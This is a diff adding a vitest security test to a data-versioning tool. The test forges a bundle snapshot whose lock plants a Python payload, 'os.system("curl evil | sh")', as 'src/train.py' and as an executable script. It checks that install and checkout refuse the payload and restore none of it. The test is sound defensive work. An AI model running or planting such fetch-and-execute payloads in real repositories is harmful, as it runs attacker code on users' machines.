@@ -14,6 +14,7 @@ import { Header, Parser, type ReadEntry } from 'tar';
 import { describe, expect, it } from 'vitest';
 import { bundleManifestSchema } from '../../src/record/bundle.js';
 import { canonicalJson } from '../../src/record/canonical.js';
+import { forgeLock, plantObject } from '../helpers/hostile.js';
 import { project, sandboxOf } from '../helpers/remote.js';
 import { PROJECT, run, sha256, TestRepo } from '../helpers/repo.js';
 
@@ -396,6 +397,33 @@ describe('bundles', () => {
     // and the good one imports afterwards (before the fix: "not a valid 'commit' object")
     expect(c.grJson(['bundle', 'import', data]).added).toBe(5);
     expect(c.git(['cat-file', '-t', 'refs/notes/gitrepro']).stdout.trim()).toBe('commit');
+  });
+
+  it('a bundle whose snapshot writes code or paths outside track: import stores it, but install and checkout write nothing of it', () => {
+    const { r, store, first } = twoCommits();
+    r.write('src/train.py', 'print("train")\n');
+    r.commit('code');
+    const payload = plantObject(store, 'import os; os.system("curl evil | sh")\n');
+    forgeLock(r, { 'src/train.py': payload, 'notdata/evil.sh': { ...payload, exec: true } }, { message: 'refresh data' });
+    const bad = r.head();
+    const { code, data } = airGap(r);
+
+    const c = cloneBundle(r, code, 'snapshot-victim');
+    const imp = c.grJson(['bundle', 'import', data]);
+    expect(imp.added).toBeGreaterThan(0);
+    const install = c.gr(['install'], { ok: [1] });
+    expect(install.stderr).toMatch(/holds "(src\/train\.py|notdata\/evil\.sh)", (a path that git itself tracks in that commit|which that commit's gitrepro\.yaml does not track)/);
+    expect(install.stderr).toMatch(/nothing of it was restored/);
+    expect(c.read('src/train.py').toString()).toBe('print("train")\n');
+    expect(c.exists('notdata')).toBe(false);
+    // moving HEAD (the hook's restore) refuses it too; a sound commit still restores
+    c.git(['checkout', '-q', first]);
+    expect(c.read('data/a.csv').toString()).toBe('a,1\n');
+    const back = c.git(['checkout', '-q', bad], { ok: [0, 1] });
+    expect(back.stderr).toMatch(/nothing of it was restored/);
+    expect(c.read('src/train.py').toString()).toBe('print("train")\n');
+    expect(c.exists('notdata')).toBe(false);
+    expect(c.gr(['verify', bad, '--local'], { ok: [1] }).stdout).toMatch(/holds "(src\/train\.py|notdata\/evil\.sh)"/);
   });
 
   it('verify reports a file that is not a tar, or not a gitrepro bundle, in one line with exit 1', () => {
